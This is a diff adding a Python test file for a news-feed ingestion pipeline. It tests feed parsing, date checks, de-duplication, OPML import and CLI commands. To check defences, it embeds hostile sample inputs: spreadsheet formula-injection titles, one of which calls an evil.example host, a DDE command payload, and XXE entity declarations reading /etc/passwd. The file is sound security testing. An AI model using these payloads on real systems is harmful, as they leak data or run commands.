@@ -1,0 +1,342 @@
+"""Feed parsing, de-duplication end to end, OPML import and the ``feeds`` commands (issue 3)."""
+
+from __future__ import annotations
+
+from datetime import UTC, date, datetime
+from pathlib import Path
+from typing import Any
+
+import pytest
+from click.testing import CliRunner
+from sqlalchemy import func, select
+
+from pipeline import schema
+from pipeline.cli_feeds import feeds_group
+from pipeline.config import FeedConfig, load_config
+from pipeline.errors import SourceError
+from pipeline.feed_cycle import check_feed
+from pipeline.feed_text import html_to_text, parse_date, strip_internal_dtd
+from pipeline.feeds import ParsedFeed, parse_feed
+from pipeline.fetch import FetchResult
+from pipeline.normalise import normalise_item
+from pipeline.opml import read_opml
+from pipeline.store import open_store
+from tests.feed_server import (  # noqa: F401
+    DATA,
+    FeedServer,
+    feed_server_fixture,
+    ingest,
+    make_config,
+    rss,
+    serve_data_file,
+    story,
+)
+
+NOW = datetime(2024, 3, 7, 12, 0, tzinfo=UTC)
+FEED = FeedConfig(name="test", url="https://example.org/feed.xml")
+
+
+def _parse(body: bytes, content_type: str | None = "application/rss+xml; charset=utf-8",
+           feed: FeedConfig = FEED) -> ParsedFeed:
+    return parse_feed(FetchResult(feed.url, 200, body, content_type=content_type), feed, NOW)
+
+
+def _data(name: str) -> ParsedFeed:
+    return _parse((DATA / name).read_bytes())
+
+
+def test_parse_feed_turns_entries_into_plain_text_items() -> None:
+    parsed = _data("good_atom.xml")
+    assert parsed.error is None and parsed.entries_seen == 3
+    first, second, third = parsed.items
+    assert first.title == "Colombia y Estados Unidos revisan la certificación antidrogas"
+    assert first.text == "Los gobiernos discutieron la cooperación.\nSegundo párrafo."
+    assert first.page_date == date(2024, 3, 6)  # 23:30 at -05:00 is the 6th in UTC
+    assert (first.language, first.origin, first.source, first.fetched_at) == ("es", "test", "test", NOW)
+    assert first.guid == "urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a"
+    assert second.page_date == date(2024, 3, 4)  # no published: updated is used
+    assert third.title == "Aranceles y comercio" and third.text == "Resumen & análisis"
+    assert parsed.summary_only == frozenset({1, 2})
+
+
+def test_parse_feed_strips_scripts_and_refuses_non_web_links() -> None:
+    parsed = _data("script_links.xml")
+    everything = " ".join(f"{i.title} {i.text} {i.url} {i.guid}" for i in parsed.items)
+    for bad in ("alert", "stealCookies", "display:none", "document.write", "onclick", "<"):
+        assert bad not in everything
+    assert [i.url for i in parsed.items] == [None] * 4 + ["https://example.org/story/5?utm_medium=rss&id=5"]
+    assert parsed.items[0].guid is None
+    assert sum("dropped non-web link" in p for p in parsed.problems) == 4
+    assert any("dropped unsafe id" in p for p in parsed.problems)
+    assert parsed.items[0].problems  # each item keeps its own problems too
+
+
+def test_parse_feed_refuses_impossible_dates_that_feedparser_rewrites() -> None:
+    parsed = _data("bad_dates.xml")
+    dates = {i.title: i.page_date for i in parsed.items}
+    for title in ("Thirty-first of February", "ISO thirtieth of February", "Hour twenty-five",
+                  "Unreadable", "Month thirteen"):
+        assert dates[title] is None
+    assert dates["Good date"] == date(2024, 3, 6)
+    assert sum("not a possible date" in p for p in parsed.problems) == 4
+    far = next(i for i in parsed.items if i.title == "Far future")
+    article = normalise_item(far, NOW)
+    assert article.page_date is None and article.event_date == NOW.date()
+    assert article.date_flags == ("future-date:2100-01-01",)
+
+
+def test_parse_feed_keeps_formula_titles_verbatim() -> None:
+    titles = [i.title for i in _data("formula_titles.xml").items]
+    assert titles == ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+2", "+SUM(A1:A9)",
+                      "@cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize(("body", "error"), [
+    (b"", "empty response body"),
+    (b"   \n", "empty response body"),
+    ((DATA / "zero_entries.xml").read_bytes(), "feed has no entries"),
+    (b"<html><body>Not a feed</body></html>", "feed has no entries"),
+    (b"\x00\xff garbage <<<", "not a readable feed"),
+])
+def test_parse_feed_without_entries_is_an_error(body: bytes, error: str) -> None:
+    parsed = _parse(body)
+    assert parsed.items == [] and parsed.error is not None and parsed.error.startswith(error)
+
+
+def test_parse_feed_never_opens_a_body_as_a_path(tmp_path: Path) -> None:
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOP-SECRET-CONTENT")
+    parsed = _parse(str(secret).encode())
+    assert parsed.error and "TOP-SECRET" not in repr(parsed)
+
+
+def test_parse_feed_reads_utf8_mislabelled_as_latin1() -> None:
+    body = rss("Mislabelled", [{"title": "Bogotá – políticas", "link": "https://example.org/m",
+                                "description": "Negociación"}]).encode("utf-8")
+    parsed = _parse(body, content_type="application/rss+xml; charset=iso-8859-1")
+    assert parsed.items[0].title == "Bogotá – políticas"
+    assert any("bytes are UTF-8" in p for p in parsed.problems)
+
+
+def test_parse_feed_language_falls_back_to_config() -> None:
+    body = rss("No language", [story(1)], language=None).encode()
+    spanish = FeedConfig(name="es", url="https://example.org/es.xml", language="es")
+    assert _parse(body, feed=spanish).items[0].language == "es"
+    assert _parse(body).items[0].language is None
+
+
+@pytest.mark.parametrize(("raw", "expected"), [
+    ("Tue, 05 Mar 2024 10:00:00 GMT", date(2024, 3, 5)),
+    ("Tue, 05 Mar 2024 23:00:00 -0300", date(2024, 3, 6)),
+    ("2024-03-05T10:00:00Z", date(2024, 3, 5)),
+    ("2024-03-05T22:00:00-04:00", date(2024, 3, 6)),
+    ("2024-03-05", date(2024, 3, 5)),
+    ("2024-03", date(2024, 3, 1)),
+    ("2024-02-29T00:00:00Z", date(2024, 2, 29)),
+    ("2023-02-29T00:00:00Z", None),
+    ("Sat, 31 Feb 2024 10:00:00 GMT", None),
+    ("2024-03-05T10:00:00+25:00", None),
+    ("0000-01-01", None),
+])
+def test_parse_date_accepts_real_dates_only(raw: str, expected: date | None) -> None:
+    assert parse_date(raw)[0] == expected
+
+
+def test_strip_internal_dtd_keeps_only_single_character_entities() -> None:
+    doc = (b'<?xml version="1.0"?>\n<!-- c -->\n<!DOCTYPE rss [\n<!ENTITY nbsp "&#160;">\n'
+           b'<!ENTITY e "\xc3\xa9">\n<!ENTITY big "' + b"A" * 5000 + b'">\n'
+           b'<!ENTITY tricky "]> still inside">\n<!ENTITY x SYSTEM "file:///etc/passwd">\n]>\n'
+           b"<rss><title>&big;&nbsp;&x;</title><![CDATA[<!DOCTYPE html>]]></rss>")
+    cleaned, problems = strip_internal_dtd(doc)
+    assert b"&#160;" in cleaned and b'<!ENTITY e "\xc3\xa9">' in cleaned
+    assert b"AAAA" not in cleaned and b"passwd" not in cleaned and b"still inside" not in cleaned
+    assert cleaned.endswith(b"<rss><title>&big;&nbsp;&x;</title><![CDATA[<!DOCTYPE html>]]></rss>")
+    assert any("external entity" in p for p in problems)
+    assert any("3 entity declarations dropped, 2 single-character" in p for p in problems)
+
+
+def test_strip_internal_dtd_leaves_external_only_doctype_and_drops_stray_entities() -> None:
+    netscape = (b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
+                b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">')
+    assert strip_internal_dtd(netscape + b"<rss/>") == (netscape + b"<rss/>", ())
+    stray = b'<!DOCTYPE rss SYSTEM "x.dtd">\n<!ENTITY big "' + b"B" * 100 + b'">\n<rss/>'
+    cleaned, problems = strip_internal_dtd(stray)
+    assert b"BBB" not in cleaned and problems
+
+
+def test_html_to_text_decodes_once_and_skips_code() -> None:
+    assert html_to_text("<p>a &amp;amp; b</p><script>x()</script><style>p{}</style>c") == "a &amp; b\nc"
+    assert html_to_text("plain   text\n here") == "plain text here"
+    assert html_to_text("<svg><text>hidden</text></svg>shown &lt;b&gt;") == "shown <b>"
+
+
+def _two_feeds(server: FeedServer, tmp_path: Path) -> tuple[str, str]:
+    first = server.add("/dedup/a.xml", rss("A", [story(1), story(2)]))
+    shared = dict(story(1), link="https://EXAMPLE.org/news/1?utm_campaign=x&fbclid=1#top")
+    second = server.add("/dedup/b.xml", rss("B", [shared, story(3)]))
+    return first, second
+
+
+def test_same_story_in_two_feeds_is_stored_once_with_both_sources(
+    feed_server: FeedServer, tmp_path: Path
+) -> None:
+    first, second = _two_feeds(feed_server, tmp_path)
+    config = make_config(tmp_path, [{"name": "a", "url": first}, {"name": "b", "url": second}])
+    engine = open_store(config.database.url)
+    result = ingest(config, engine)
+    assert result.upserts["a"].added == 2 and result.upserts["b"].added == 1
+    with engine.connect() as conn:
+        assert conn.execute(select(func.count()).select_from(schema.articles)).scalar_one() == 3
+        rows = conn.execute(select(schema.article_sources.c.source)
+                            .join(schema.articles)
+                            .where(schema.articles.c.url == "https://example.org/news/1")).all()
+    assert sorted(r.source for r in rows) == ["a", "b"]
+
+
+def test_changed_entry_updates_its_article(feed_server: FeedServer, tmp_path: Path) -> None:
+    url = feed_server.add("/update/feed.xml", rss("U", [story(7)]), etag='"1"')
+    config = make_config(tmp_path, [{"name": "u", "url": url}])
+    engine = open_store(config.database.url)
+    assert ingest(config, engine).upserts["u"].added == 1
+    assert ingest(config, engine).outcomes["u"].status == "not-modified"
+    feed_server.add("/update/feed.xml", rss("U", [story(7, extra="Revised figures.")]), etag='"2"')
+    result = ingest(config, engine)
+    assert result.upserts["u"].updated == 1 and result.upserts["u"].added == 0
+    with engine.connect() as conn:
+        text = conn.execute(select(schema.articles.c.text)).scalar_one()
+    assert "Revised figures." in text
+
+
+def test_check_feed_reports_without_storing(feed_server: FeedServer, tmp_path: Path) -> None:
+    url = serve_data_file(feed_server, "good_atom.xml")
+    config = make_config(tmp_path, [])
+    outcome = check_feed(url, config)
+    assert (outcome.status, outcome.http_status, len(outcome.items)) == ("ok", 200, 3)
+    assert not (tmp_path / "store.db").exists()
+    assert check_feed("ftp://example.org/feed", config).status == "failed"
+
+
+def test_feeds_check_command_lists_entries_and_fails_on_error(
+    feed_server: FeedServer, tmp_path: Path
+) -> None:
+    config = make_config(tmp_path, [])
+    runner = CliRunner()
+    good = serve_data_file(feed_server, "formula_titles.xml")
+    result = runner.invoke(feeds_group, ["check", good, "--limit", "2"], obj={"config": config})
+    assert result.exit_code == 0, result.output
+    assert '=HYPERLINK("http://evil.example/?x="&A1,"Click")' in result.output
+    assert "... and 2 more" in result.output
+    missing = feed_server.add("/cli/missing.xml", b"gone", status=404)
+    result = runner.invoke(feeds_group, ["check", missing], obj={"config": config})
+    assert result.exit_code == 1 and isinstance(result.exception, SourceError)
+    assert str(result.exception) == f"{missing}: HTTP 404 Not Found"
+
+
+def test_feeds_command_lists_health_by_default(feed_server: FeedServer, tmp_path: Path) -> None:
+    good = feed_server.add("/cli/good.xml", rss("G", [story(1)]))
+    bad = feed_server.add("/cli/broken.xml", b"broken", status=500)
+    feeds: list[dict[str, Any]] = [{"name": "good", "url": good}, {"name": "broken", "url": bad},
+             {"name": "off", "url": good, "enabled": False}]
+    config = make_config(tmp_path, feeds)
+    runner = CliRunner()
+    before = runner.invoke(feeds_group, [], obj={"config": config})
+    assert before.exit_code == 0 and "never fetched" in before.output
+    ingest(config, open_store(config.database.url))
+    result = runner.invoke(feeds_group, [], obj={"config": config})
+    assert result.exit_code == 0, result.output
+    lines = {line.split()[0]: line for line in result.output.splitlines()[1:]}
+    assert " ok " in lines["good"] and lines["good"].split()[-1] == "1"
+    assert "failing, retry" in lines["broken"] and "HTTP 500 Internal Server Error" in lines["broken"]
+    assert "disabled" in lines["off"]
+
+
+CONFIG_YAML = """\
+# Analyst config: this comment must survive an import.
+database:
+  url: sqlite:///store.db
+sources:
+  feeds:
+    - name: Existing   # kept
+      url: https://existing.example.org/feed.xml
+signals:
+  risk:
+    label: Risk
+    weight: 1.0
+"""
+
+
+def test_feeds_import_adds_new_feeds_and_keeps_comments(tmp_path: Path) -> None:
+    path = tmp_path / "config.yaml"
+    path.write_text(CONFIG_YAML)
+    result = CliRunner().invoke(feeds_group, ["import", str(DATA / "subscriptions.opml")],
+                                obj={"config": load_config(path)})
+    assert result.exit_code == 0, result.output
+    assert "3 feeds added" in result.output and "2 skipped" in result.output
+    text = path.read_text()
+    assert "# Analyst config: this comment must survive an import." in text and "# kept" in text
+    feeds = load_config(path).sources.feeds
+    assert [f.name for f in feeds] == ["Existing", "State Dept", "El Tiempo", "USTR"]
+    again = CliRunner().invoke(feeds_group, ["import", str(DATA / "subscriptions.opml")],
+                               obj={"config": load_config(path)})
+    assert "0 feeds added" in again.output
+
+
+def test_read_opml_refuses_doctype(tmp_path: Path) -> None:
+    path = tmp_path / "evil.opml"
+    path.write_text('<!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]><opml><body>'
+                    '<outline xmlUrl="https://example.org/&x;"/></body></opml>')
+    with pytest.raises(SourceError, match="DOCTYPE or ENTITY declaration is refused"):
+        read_opml(path)
+
+
+@pytest.mark.parametrize("args", [["--help"], ["list", "--help"], ["import", "--help"],
+                                  ["check", "--help"]])
+def test_feeds_commands_have_help_with_an_example(args: list[str]) -> None:
+    result = CliRunner().invoke(feeds_group, args)
+    assert result.exit_code == 0 and "Example: policy-risk feeds" in result.output
+
+
+ARTICLE_HTML = (
+    "<html><head><title>Page</title><script>track()</script></head><body>"
+    "<nav>Menu Home About Contact</nav><article><h1>Certification review</h1>"
+    + "".join(f"<p>Paragraph {n}: officials in Bogotá and Washington discussed certification, "
+              "aid conditions and counter-narcotics cooperation at length today.</p>"
+              for n in range(1, 9))
+    + "</article><footer>Copyright footer</footer></body></html>"
+)
+
+
+def test_full_text_feed_fetches_linked_pages_once(feed_server: FeedServer, tmp_path: Path) -> None:
+    page = feed_server.add("/ft/page.html", ARTICLE_HTML,
+                           headers={"Content-Type": "text/html; charset=utf-8"})
+    entries = [{"title": "Review", "link": page, "description": "Short summary."},
+               {"title": "Gone", "link": feed_server.url("/ft/missing.html"),
+                "description": "Only a summary."}]
+    url = feed_server.add("/ft/feed.xml", rss("FT", entries), etag='"f1"')
+    config = make_config(tmp_path, [{"name": "ft", "url": url, "full_text": True}])
+    engine = open_store(config.database.url)
+    items = ingest(config, engine).outcomes["ft"].items
+    assert "Paragraph 8" in items[0].text
+    assert "track()" not in items[0].text and "Menu Home" not in items[0].text
+    assert items[1].text == "Only a summary."
+    problems = ingest(config, engine).outcomes["ft"].problems  # 304: nothing fetched
+    assert problems == ()
+    hits = feed_server.hits["/ft/page.html"]
+    new_page = feed_server.add("/ft/new.html", ARTICLE_HTML.replace("Paragraph", "Section"),
+                               headers={"Content-Type": "text/html"})
+    entries.append({"title": "New", "link": new_page, "description": "New one."})
+    feed_server.add("/ft/feed.xml", rss("FT", entries), etag='"f2"')
+    result = ingest(config, engine)
+    assert feed_server.hits["/ft/page.html"] == hits  # the stored article's text was reused
+    assert result.upserts["ft"].unchanged == 2 and result.upserts["ft"].added == 1
+    assert "Section 8" in result.outcomes["ft"].items[2].text
+    assert any("missing.html: HTTP 404" in p for p in result.outcomes["ft"].problems)
+
+
+def test_feeds_module_serves_the_cycle_names() -> None:
+    from pipeline import feed_cycle, feeds
+
+    assert feeds.collect_feeds is feed_cycle.collect_feeds
+    assert feeds.FeedOutcome is feed_cycle.FeedOutcome
+    with pytest.raises(AttributeError):
+        feeds.no_such_name  # noqa: B018
